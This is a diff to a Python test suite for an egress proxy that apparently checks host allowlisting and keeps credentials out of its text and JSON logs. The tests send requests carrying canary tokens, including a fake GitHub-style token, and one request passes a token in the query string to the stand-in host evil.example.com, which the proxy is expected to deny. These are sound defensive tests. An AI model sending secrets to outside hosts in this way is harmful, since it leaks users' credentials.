@@ -405,24 +405,73 @@ def test_proxy_authentication(tmp_path, standin):
     assert "s3cret-canary-pw" not in instance.output()
 
 
-def test_logs_hold_no_query_strings_bodies_or_credentials(airlock, standin):
-    canary = "CANARY-q7Zp3"
+LOG_CANARY = "CANARY-q7Zp3"
+PATH_TOKEN = "q7Zp3CANARYpathToken0123456789"  # a credential carried in a path segment
+SECRET_CANARY = "ghp_q7Zp3CanaryT0kenRw8Xn2Lb5Vd9Hs4Kj6Mf1"
+
+
+def send_log_canaries(airlock) -> None:
+    """Requests whose query strings, headers, bodies, path segments and CONNECT targets carry canaries: allowed,
+    redacted, denied and malformed."""
+    canary = LOG_CANARY
     curl(airlock, f"https://api.openai.com/v1/models?key={canary}-query",
          "-H", f"Authorization: Bearer {canary}-auth", "-H", f"x-api-key: {canary}-xkey",
          "-H", f"Cookie: session={canary}-cookie", "--data", f'{{"prompt": "{canary}-body"}}')
+    curl(airlock, "https://api.openai.com/v1/chat/completions", "--data",
+         json.dumps({"model": "gpt-4o", "messages": [{"role": "user", "content": f"my token is {SECRET_CANARY}"}]}))
     curl(airlock, f"https://evil.example.com/path?token={canary}-denied")
-    path_token = "q7Zp3CANARYpathToken0123456789"  # a credential carried in a path segment
-    curl(airlock, f"https://api.openai.com/bot42:{path_token}/sendMessage")
+    curl(airlock, f"https://api.openai.com/bot42:{PATH_TOKEN}/sendMessage")
     # Malformed CONNECT targets: a query string and userinfo are refused and not echoed into the log.
     for target in (f"api.openai.com:443?key={canary}-connect", f"user:{canary}-userinfo@api.openai.com:443"):
         with socket.create_connection(("127.0.0.1", airlock.port), timeout=10) as sock:
             sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n".encode())
             assert read_response(sock).split(b" ")[1] in (b"400", b"403")
-    airlock.stop()
+    assert airlock.stop() == 0
+
+
+def assert_no_canaries(output: str) -> None:
+    for canary in (LOG_CANARY, PATH_TOKEN, SECRET_CANARY, SECRET_CANARY[4:]):
+        assert canary not in output
+
+
+def test_logs_hold_no_query_strings_bodies_or_credentials(airlock, standin):
+    send_log_canaries(airlock)
     output = airlock.output()
     assert "request" in output and "/v1/models" in output and "/bot42:{id}/sendMessage" in output
-    assert canary not in output
-    assert path_token not in output
+    assert "scrub=redacted findings=github-pat:1" in output
+    assert_no_canaries(output)
+
+
+def test_json_logs_are_one_object_per_line_with_typed_fields(tmp_path, standin):
+    server, ca = standin
+    server.state.reset()
+    with launched(tmp_path, server, ca, extra=["--log-format", "json"]) as instance:
+        send_log_canaries(instance)
+        errors = instance.stderr_path.read_text()
+    assert_no_canaries(instance.output())
+    records = [json.loads(line) for line in errors.splitlines()]
+    assert all(list(r)[:4] == ["time", "level", "label", "message"] for r in records)
+    assert any(r["message"].startswith("airlock admin listening on 127.0.0.1:") for r in records)
+    requests_logged = [r for r in records if r["message"] == "request"]
+    by_path = {r["path"]: r for r in requests_logged}
+    models = by_path["/v1/models"]
+    assert (models["decision"], models["status"], models["method"], models["host"]) == (
+        "allowed", 200, "POST", "api.openai.com")
+    assert isinstance(models["duration_ms"], (int, float)) and "scrub" not in models
+    chat = by_path["/v1/chat/completions"]
+    assert (chat["scrub"], chat["findings"], chat["status"]) == ("redacted", {"github-pat": 1}, 200)
+    denied = [r for r in requests_logged if r["host"] == "evil.example.com"]
+    assert [(r["decision"], r["status"], r["reason"]) for r in denied] == [("denied", 403, "host_not_allowlisted")]
+    assert "/bot42:{id}/sendMessage" in by_path
+
+
+def test_log_format_and_level_are_checked(tmp_path, standin):
+    server, ca = standin
+    for flags, problem in ((["--log-format", "xml"], "--log-format must be text or json"),
+                           (["--log-level", "verbose"], "--log-level must be one of trace")):
+        instance = launch(tmp_path, server, ca, extra=flags, expect_ready=False)
+        assert instance.process.wait(timeout=30) == 2
+        assert problem in instance.stderr_path.read_text()
 
 
 def test_pipelined_requests_are_answered_in_order(airlock, standin):
